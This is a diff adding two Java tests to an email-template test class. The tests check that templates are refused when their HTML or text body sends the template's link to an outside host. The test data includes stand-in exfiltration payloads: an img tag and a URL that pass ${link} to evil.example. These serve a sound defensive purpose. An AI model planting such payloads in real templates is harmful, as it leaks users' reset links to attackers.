@@ -117,6 +117,26 @@ class EmailTemplatesTest {
   }
 
   @DatabaseTest
+  void refusesHtmlThatTakesTheLinkElsewhere(TestDatabase database) {
+    var content =
+        new Template(
+            Optional.of("x"),
+            "${link}",
+            Optional.of(
+                "<a href=\"${link}\">Open</a><img src=\"https://evil.example/b?x=${link}\">"));
+
+    assertRefused("body_html", database, content);
+  }
+
+  @DatabaseTest
+  void refusesTextThatTakesTheLinkElsewhere(TestDatabase database) {
+    assertRefused(
+        "body_text",
+        database,
+        new Template(Optional.of("x"), "https://evil.example/?u=${link}", Optional.empty()));
+  }
+
+  @DatabaseTest
   void showsAMessageAsItWouldBe(TestDatabase database) {
     var templates = room(database);
     var standing = templates.get(ACME, "reset", EN);
